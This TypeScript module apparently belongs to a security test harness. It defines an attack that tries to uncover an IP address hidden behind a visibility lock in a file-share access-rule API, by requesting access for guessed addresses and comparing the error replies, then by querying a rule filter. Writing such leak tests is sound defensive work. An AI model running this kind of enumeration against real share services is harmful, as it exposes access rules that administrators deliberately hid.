import type { Answer, ApiWorld } from './world.ts'
import type { Attack } from '../attack.ts'

/** An administrator let somebody in and hid whom; the share's owner asks for one address after the other. */
export const hiddenRules: Attack<ApiWorld> = {
  name: 'hidden rules',
  tries:
    'finds the address in an access rule under a visibility lock by allowing addresses until one "exists already"',
  async run({ ask, share }) {
    const id = await share('attacker')
    const allow = (access_to: string, as: 'admin' | 'attacker' = 'attacker', more: object = {}) =>
      ask(`/v2/shares/${id}/action`, {
        as,
        method: 'POST',
        body: { allow_access: { access_type: 'ip', access_to, ...more } },
      })
    const hidden = await allow('10.0.0.77', 'admin', { lock_visibility: true })
    if (hidden.status !== 200) throw new Error(`no hidden rule: ${hidden.status} ${hidden.text}`)
    const seen = ({ status, json, text }: Answer): string =>
      status === 200 ? `200 ${Object.keys(json.access).join()} ${json.access.state}` : `${status} ${text}`
    const guesses: string[] = []
    for (const to of ['10.0.0.76', '10.0.0.77', '10.0.0.78']) guesses.push(seen(await allow(to)))
    const filtered = await ask(`/v2/share-access-rules?share_id=${id}&access_type=ip&access_to=10.0.0.77`)
    const found = (filtered.json?.access_list ?? []) as { id: string }[]
    const through = new Set(guesses).size > 1 || found.some((rule) => rule.id === hidden.json.access.id)
    return {
      through,
      tried: `${guesses.length} addresses, one of them the hidden one, and a filter`,
      cameBack: through ? guesses.join(' | ') : `three times ${guesses[0]}`,
    }
  },
}
